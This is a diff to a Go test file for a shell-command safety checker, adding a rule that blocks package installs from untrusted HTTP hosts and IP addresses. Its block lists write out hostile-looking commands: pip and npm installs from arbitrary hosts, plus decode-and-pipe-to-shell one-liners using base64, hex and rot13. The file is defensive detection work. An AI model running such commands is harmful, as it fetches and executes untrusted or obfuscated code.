@@ -44,6 +44,11 @@ var codeSamples = []sample{
 		},
 	},
 	{
+		rule: "package-from-anywhere", lang: "bash",
+		block: []string{"pip install http://h.example/x.tar.gz", "pip install --index-url http://203.0.113.4/simple x", "npm install https://203.0.113.4/x.tgz", "pip install git+http://h.example/x.git"},
+		pass:  []string{"pip install git+https://github.com/a/b.git", "pip install --index-url https://download.pytorch.org/whl/cpu torch", "npm install --registry http://localhost:4873 x", "pip install -i http://10.0.0.4/simple x", "npm install https://github.com/a/b/tarball/main"},
+	},
+	{
 		rule: "decode-execute", lang: "bash",
 		block: []string{
 			"echo bHM= | base64 -d | sh", "base64 -d <<< bHM= | bash", "eval $(echo bHM= | base64 --decode)", "bash -c \"$(echo bHM= | base64 -d)\"", "echo 6c73 | xxd -r -p | sh", "echo sl | rev | bash", "echo yf | tr a-z n-za-m | sh",
